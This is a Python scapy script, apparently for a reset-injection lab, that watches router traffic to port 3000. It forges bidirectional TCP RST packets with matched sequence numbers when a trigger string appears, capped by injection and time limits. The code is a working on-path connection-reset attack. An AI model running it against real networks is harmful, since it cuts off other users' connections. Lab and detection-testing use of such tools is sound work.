#!/usr/bin/env python3
"""On-path RST injector for the reset lab (runs in the router namespace).

Watches forwarded TCP traffic to port 3000; when it sees a request whose first line
contains the trigger string, it forges RSTs in both directions using the sequence numbers
it just saw, with a TTL and IP ID that do not match either real endpoint.  Every packet it
sends is logged as one JSON line.  Bounded by --max-injections and --max-seconds.
"""
import argparse
import json
import random
import sys
import time

from scapy.all import IP, TCP, IPv6, conf, send, sniff  # noqa: E402

conf.verb = 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--trigger", default="/inject")
    ap.add_argument("--ttl", type=int, default=200)
    ap.add_argument("--max-injections", type=int, default=5)
    ap.add_argument("--max-seconds", type=float, default=60)
    args = ap.parse_args()
    state = {"n": 0}
    rng = random.Random(4242)

    def log(rec):
        sys.stdout.write(json.dumps(rec) + "\n")
        sys.stdout.flush()

    def on_pkt(p):
        if state["n"] >= args.max_injections or TCP not in p:
            return
        t = p[TCP]
        payload = bytes(t.payload)
        if t.dport != 3000 or args.trigger.encode() not in payload[:200]:
            return
        ipl = IPv6 if IPv6 in p else IP
        ip = p[ipl]
        c_addr, s_addr = ip.src, ip.dst
        # to the client (nginx), pretending to be the server: seq = what the client acks
        # to the server, pretending to be the client: seq = right after this request
        pkts = []
        for src, dst, sport, dport, seq in (
            (s_addr, c_addr, t.dport, t.sport, t.ack),
            (c_addr, s_addr, t.sport, t.dport, t.seq + len(payload)),
        ):
            if ipl is IP:
                ipid = rng.randrange(1, 65535)
                pkt = IP(src=src, dst=dst, ttl=args.ttl, id=ipid) / TCP(
                    sport=sport, dport=dport, flags="R", seq=seq, window=0)
            else:
                ipid = None
                pkt = IPv6(src=src, dst=dst, hlim=args.ttl) / TCP(
                    sport=sport, dport=dport, flags="R", seq=seq, window=0)
            pkts.append((pkt, ipid))
        for pkt, ipid in pkts:
            send(pkt)
            def ep(a, port):
                return f"{a}:{port}" if ipl is IP else f"[{a}]:{port}"

            log({"ts": round(time.time(), 6), "event": "injected_rst",
                 "src": ep(pkt.src, pkt[TCP].sport), "dst": ep(pkt.dst, pkt[TCP].dport),
                 "seq": pkt[TCP].seq, "ttl": args.ttl, "ip_id": ipid,
                 "trigger_seq": t.seq})
        state["n"] += 1

    log({"ts": round(time.time(), 6), "event": "started", "iface": args.iface, "ttl": args.ttl})
    sniff(iface=args.iface, filter="tcp port 3000", prn=on_pkt, store=False,
          timeout=args.max_seconds, stop_filter=lambda p: state["n"] >= args.max_injections)
    log({"ts": round(time.time(), 6), "event": "stopped", "injections": state["n"]})


if __name__ == "__main__":
    main()
